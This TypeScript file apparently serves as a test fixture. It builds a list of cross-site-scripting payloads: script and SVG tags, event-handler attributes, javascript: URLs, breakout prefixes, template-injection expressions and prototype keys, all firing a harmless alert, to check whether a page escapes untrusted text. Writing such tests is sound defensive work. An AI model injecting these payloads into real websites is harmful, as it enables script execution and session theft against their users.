/** Texts that run as script where a page puts them into markup, attributes, scripts, styles, URLs or SVG without escaping. */
const ACTION = 'window.__ran=1;alert(1)'

const ELEMENTS = [
  `<script>${ACTION}</script>`,
  `</script><script>${ACTION}</script>`,
  `<!--<script>--><script>${ACTION}</script>`,
  `<img src=x onerror="${ACTION}">`,
  `<img src="http://127.0.0.1:9/x.png">`,
  `<svg onload="${ACTION}"></svg>`,
  `<svg><script>${ACTION}</script></svg>`,
  `<svg><animate onbegin="${ACTION}" attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>${ACTION}</script>"></iframe>`,
  `<iframe src="javascript:${ACTION}"></iframe>`,
  `<object data="javascript:${ACTION}"></object>`,
  `<embed src="javascript:${ACTION}">`,
  `<a href="javascript:${ACTION}" autofocus onfocus="${ACTION}">x</a>`,
  `<input autofocus onfocus="${ACTION}">`,
  `<details open ontoggle="${ACTION}">`,
  `<video><source onerror="${ACTION}"></video>`,
  `<math href="javascript:${ACTION}">x</math>`,
  `<link rel=stylesheet href="http://127.0.0.1:9/x.css">`,
  `<meta http-equiv=refresh content="0;url=javascript:${ACTION}">`,
  `<base href="http://127.0.0.1:9/">`,
  `<form action="javascript:${ACTION}"><button>x</button></form>`,
  `<style>@import 'http://127.0.0.1:9/x.css';</style>`,
  `<body onload="${ACTION}">`,
  `<template><img src=x onerror="${ACTION}"></template>`,
  `<foreignObject><img src=x onerror="${ACTION}"></foreignObject>`,
]

/** What has to be closed first, depending on where the text lands. */
const BREAKOUTS = ['', '">', "'>", '</title>', '</text></svg>', ']]>']

const EXPRESSIONS = [
  `${'$'}{${ACTION}}`,
  `{{constructor.constructor('${ACTION}')()}}`,
  `';${ACTION};//`,
  `\\u003cscript\\u003e${ACTION}\\u003c/script\\u003e`,
  `'+(${ACTION})+'`,
  `');${ACTION};('`,
  `" onmouseover="${ACTION}" x="`,
  `' onfocus='${ACTION}' autofocus='`,
  `javascript:${ACTION}`,
  `data:text/html,<script>${ACTION}</script>`,
  `url(javascript:${ACTION})`,
  `expression(${ACTION})`,
  `\u2028${ACTION}\u2029`,
  `\u0000<script>${ACTION}</script>`,
  '\u001b]8;;http://127.0.0.1:9/\u0007x\u001b]8;;\u0007',
  '\u202e<gnp.exe>',
  `&lt;script&gt;${ACTION}&lt;/script&gt;`,
  `&#60;script&#62;${ACTION}&#60;/script&#62;`,
  `__proto__`,
  `constructor`,
]

export const HOSTILE_STRINGS: string[] = [
  ...BREAKOUTS.flatMap((breakout) => ELEMENTS.map((element) => breakout + element)),
  ...EXPRESSIONS,
]
